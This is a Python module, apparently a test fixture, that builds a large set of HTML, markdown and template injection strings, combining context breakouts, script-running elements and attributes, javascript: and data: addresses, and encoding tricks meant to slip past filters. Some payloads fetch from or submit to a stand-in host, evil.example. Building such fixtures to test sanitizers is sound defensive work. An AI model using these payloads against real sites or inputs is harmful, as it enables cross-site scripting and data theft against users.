"""Texts that try to be more than text: ways out of a place in a page × things to do there × disguises.

Whatever a payload would bring into a page wears a mark: an element or an attribute whose name starts with
`evil`, `window.pwned`, or an address at `evil.example`.
"""

from collections.abc import Callable, Iterator
from html import escape
from itertools import product
from urllib.parse import quote

RUN = "window.pwned=1"

# Where a text may stand, and what would end that place.
WAYS_OUT = {
    "text": "",
    "double quotes": '">',
    "single quotes": "'>",
    "backticks": "`>",
    "bare attribute": " x>",
    "textarea": "</textarea>",
    "title": "</title>",
    "script": "</script>",
    "style": "</style>",
    "option": "</option></select>",
    "comment": "-->",
    "broken comment": "--!>",
    "cdata": "]]>",
    "template": "</template>",
    "button": "</button></form>",
    "fieldset": "</legend></fieldset>",
    "cell": "</td></tr></table>",
    "label": "</bdi></label></div>",
}

ELEMENTS = (
    f"<script evil>{RUN}</script>",
    "<script evil src=https://evil.example/x.js></script>",
    f"<script evil type=module>{RUN}</script>",
    f"<img evil src=x onerror={RUN}>",
    "<img evil src=https://evil.example/x.png>",
    f"<svg evil onload={RUN}>",
    f"<svg evil><script>{RUN}</script></svg>",
    f"<svg evil><animate onbegin={RUN} attributeName=x></svg>",
    f"<math evil><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<iframe evil srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
    f"<iframe evil src=javascript:parent.{RUN[7:]}></iframe>",
    "<object evil data=https://evil.example/x.swf></object>",
    f"<embed evil src=javascript:{RUN}>",
    f"<video evil><source src=x onerror={RUN}></video>",
    f"<audio evil src=x onerror={RUN}></audio>",
    f"<body evil onload={RUN}>",
    f"<details evil open ontoggle={RUN}>",
    f"<marquee evil onstart={RUN}>",
    f"<input evil autofocus onfocus={RUN}>",
    f"<select evil autofocus onfocus={RUN}></select>",
    f"<textarea evil autofocus onfocus={RUN}></textarea>",
    "<style evil>@import 'https://evil.example/x.css'</style>",
    "<style evil>*{display:none}</style>",
    "<link evil rel=stylesheet href=https://evil.example/x.css>",
    "<link evil rel=preload as=image href=https://evil.example/x.png>",
    "<meta evil http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base evil href=https://evil.example/>",
    "<form evil action=https://evil.example/><button name=action value=approve>Continue</button></form>",
    "<button evil name=action value=approve formaction=https://evil.example/>Continue</button>",
    "<input evil type=hidden name=action value=approve>",
    "<input evil type=image src=https://evil.example/x.png>",
    f"<a evil href=javascript:{RUN}>press</a>",
    "<a evil href=https://evil.example/ ping=https://evil.example/ping>press</a>",
    "<evil-element></evil-element>",
    f"<p evil style='background:url(https://evil.example/x)' onclick={RUN}>",
    f"<template evil shadowrootmode=open><script>{RUN}</script></template>",
    f"<dialog evil open><button autofocus onfocus={RUN}>x</button></dialog>",
    "<!-- <evil-comment>",
    "<![CDATA[<evil-data>]]>",
    "<?evil <evil-instruction> ?>",
)

QUOTES_OUT = {"double": '" ', "single": "' ", "backtick": "` ", "none": " ", "slash": '"/', "line end": '"\n'}

ATTRIBUTES = (
    f"autofocus onfocus={RUN} evil=",
    f"onmouseover={RUN} evil=",
    f"onclick={RUN} evil=",
    f"onanimationstart={RUN} evil=",
    f"oncontentvisibilityautostatechange={RUN} evil=",
    "style=position:fixed;inset:0 evil=",
    "formaction=https://evil.example/ evil=",
    f"href=javascript:{RUN} evil=",
    "src=https://evil.example/x evil=",
    f"srcdoc=<script>parent.{RUN[7:]}</script> evil=",
    "checked evil=",
    "form=evil evil=",
    "data-opened-url=https://evil.example/ evil=",
    "hidden evil=",
)

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" \x0bjavascript:{RUN}",
    f"javascript://evil.example/%0a{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,{'PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=='}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    'data:image/png;base64,AAAA" onerror=window.pwned=1 evil="',
    "//evil.example/x.png",
    "\\\\evil.example\\x.png",
    "https://evil.example/x.png",
    'https://evil.example/"onclick="window.pwned=1" evil="',
    "https://user:pass@evil.example/<evil-link>",
    "https://evil.example/#<img evil src=x>",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "view-source:https://evil.example/",
)

MARKDOWN = (
    "[press]({address})",
    "[press](<{address}>)",
    '[press]({address} "evil=1 onclick=window.pwned=1")',
    "![picture]({address})",
    "<{address}>",
    "[press][one]\n\n[one]: {address}",
    "[![both]({address})]({address})",
    "| a | b |\n| --- | --- |\n| [x]({address}) | <{address}> |",
    "> - [x]({address})",
)
MARKDOWN_PLACES = (
    f'```"><evil-fence onclick="{RUN}"\nx\n```',
    "    <evil-indented>",
    "`<evil-code>`",
    "# <evil-heading> {#evil onclick=window.pwned=1}",
    "- [ ] <evil-task>\n- [x] <evil-task>",
    "<evil-block>\n\n*text*\n\n</evil-block>",
    "text<evil-inline onclick=window.pwned=1>text</evil-inline>",
    "*a<evil-emphasis>*b**</evil-emphasis>**",
    '[x](https://ok.example/"evil=1)',
    "[x](https://ok.example/ 'a\"evil=1 onclick=window.pwned=1')",
    "[^1]\n\n[^1]: <evil-footnote>",
    "<div evil markdown=1>*x*</div>",
    "&lt;evil-entity&gt; &#60;evil-entity&#62;",
    "<!-- <evil-comment> -->\n<evil-after>",
    "\\<evil-escaped>",
)

TEMPLATES = (
    "{{ 7*7 }}<evil-template>",
    "{% for x in range(9) %}<evil-template>{% endfor %}",
    "{# <evil-template> #}",
    "{service} {0.__class__} {count} {who!r}<evil-template>",
    "%s %(service)s %n<evil-template>",
    "${7*7} #{7*7} <%= 7*7 %><evil-template>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}<evil-template>",
    "&lt;evil-entity&gt;",
    "&#60;evil-entity&#62;",
)

Disguise = Callable[[str], str]


def _mixed(text: str) -> str:
    return "".join(sign.upper() if place % 2 else sign.lower() for place, sign in enumerate(text))


def _each(signs: str, change: Disguise) -> Disguise:
    return lambda text: "".join(change(sign) if sign in signs else sign for sign in text)


MARKS = "<>\"'&"
DISGUISES: dict[str, Disguise] = {
    "upper case": str.upper,
    "mixed case": _mixed,
    "slashes for spaces": lambda text: text.replace(" ", "/"),
    "tabs for spaces": lambda text: text.replace(" ", "\t"),
    "line ends for spaces": lambda text: text.replace(" ", "\n"),
    "form feeds for spaces": lambda text: text.replace(" ", "\f"),
    "never closed": lambda text: text.rstrip(">"),
    "opened twice": lambda text: text.replace("<", "<<"),
    "zero inside": lambda text: text.replace("<", "<\x00"),
    "entities": escape,
    "entities twice": lambda text: escape(escape(text)),
    "numbered entities": _each(MARKS, lambda sign: f"&#{ord(sign)};"),
    "entities without end": _each(MARKS, lambda sign: f"&#x{ord(sign):x}"),
    "percent": quote,
    "script escapes": _each(MARKS, lambda sign: f"\\u{ord(sign):04x}"),
    "style escapes": _each(MARKS, lambda sign: f"\\{ord(sign):x} "),
    "wide": _each("<>\"'=/", lambda sign: chr(ord(sign) + 0xFEE0)),
    "small": lambda text: text.replace("<", "\ufe64").replace(">", "\ufe65"),
    "seven bits": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "backslashes": _each("\"'", lambda sign: f"\\{sign}"),
    "invisible inside": lambda text: text.replace("<", "<\u200b"),
    "turned around": lambda text: f"\u202e{text}\u202c",
    "marked bytes": lambda text: f"\ufeff{text}",
    "joined signs": lambda text: text.replace("<", "<\u0338"),
}


def _made() -> Iterator[str]:
    for way_out, element in product(WAYS_OUT.values(), ELEMENTS):
        yield way_out + element
    yield from (disguise(element) for disguise, element in product(DISGUISES.values(), ELEMENTS))
    for way_out, attribute in product(QUOTES_OUT.values(), ATTRIBUTES):
        yield way_out + attribute
        yield from (DISGUISES[name](way_out + attribute) for name in ("mixed case", "entities", "percent"))
    yield from ADDRESSES
    yield from (form.format(address=address) for form, address in product(MARKDOWN, ADDRESSES))
    yield from MARKDOWN_PLACES
    yield from TEMPLATES
    yield from ("Z" * 3000 + "<evil-late>", "a\u0301" * 40 + "<evil-stacked>")


ALL: tuple[str, ...] = tuple(dict.fromkeys(_made()))
# A few of every sort, for what takes its time with each.
PAYLOADS = list(ALL[:: len(ALL) // 40])
